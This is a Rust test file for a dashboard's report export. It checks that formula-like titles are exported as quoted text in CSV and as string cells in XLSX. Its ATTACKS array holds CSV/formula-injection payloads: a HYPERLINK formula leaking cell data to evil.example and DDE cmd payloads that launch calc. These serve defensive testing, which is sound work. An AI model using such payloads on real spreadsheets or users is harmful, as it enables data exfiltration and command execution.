//! The dashboard's exports open safely in a spreadsheet: a title or a name that looks like a formula
//! (`=HYPERLINK(…)`, `@SUM(…)`, `+1+cmd|…`) is text in the CSV (with a leading `'`) and a string
//! cell in the XLSX, never a formula; numbers stay numbers.

use calamine::{Data, Reader};
use zhuqi_server::dashboard::reports::{Cell, Table, csv_bytes, xlsx_bytes};

const ATTACKS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"查看详情\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "\t=1+1",
];

fn table() -> Table {
    Table {
        headers: vec!["问题".into(), "催办次数".into(), "得分".into()],
        rows: ATTACKS.iter().map(|a| vec![Cell::Text((*a).into()), Cell::Number(2.0), Cell::Number(-1.5)]).collect(),
    }
}

#[test]
fn formula_looking_text_is_text_in_the_csv() {
    let bytes = csv_bytes(&table());
    let mut r = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), ATTACKS.len());
    for (row, attack) in rows.iter().zip(ATTACKS) {
        assert_eq!(&row[0], format!("'{attack}"));
        assert_eq!((&row[1], &row[2]), ("2", "-1.5"));
    }
}

#[test]
fn formula_looking_text_is_a_string_cell_in_the_xlsx() {
    let t = table();
    let bytes = xlsx_bytes(&[("问题", &t)]).unwrap();
    let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let formulas = book.worksheet_formula("问题").unwrap();
    assert!(formulas.used_cells().next().is_none(), "no formula in the workbook");
    let range = book.worksheet_range("问题").unwrap();
    for (i, attack) in ATTACKS.iter().enumerate() {
        let row = i as u32 + 1;
        assert_eq!(range.get_value((row, 0)), Some(&Data::String((*attack).to_owned())), "as written, as a string");
        assert_eq!(range.get_value((row, 1)), Some(&Data::Float(2.0)));
        assert_eq!(range.get_value((row, 2)), Some(&Data::Float(-1.5)));
    }
}
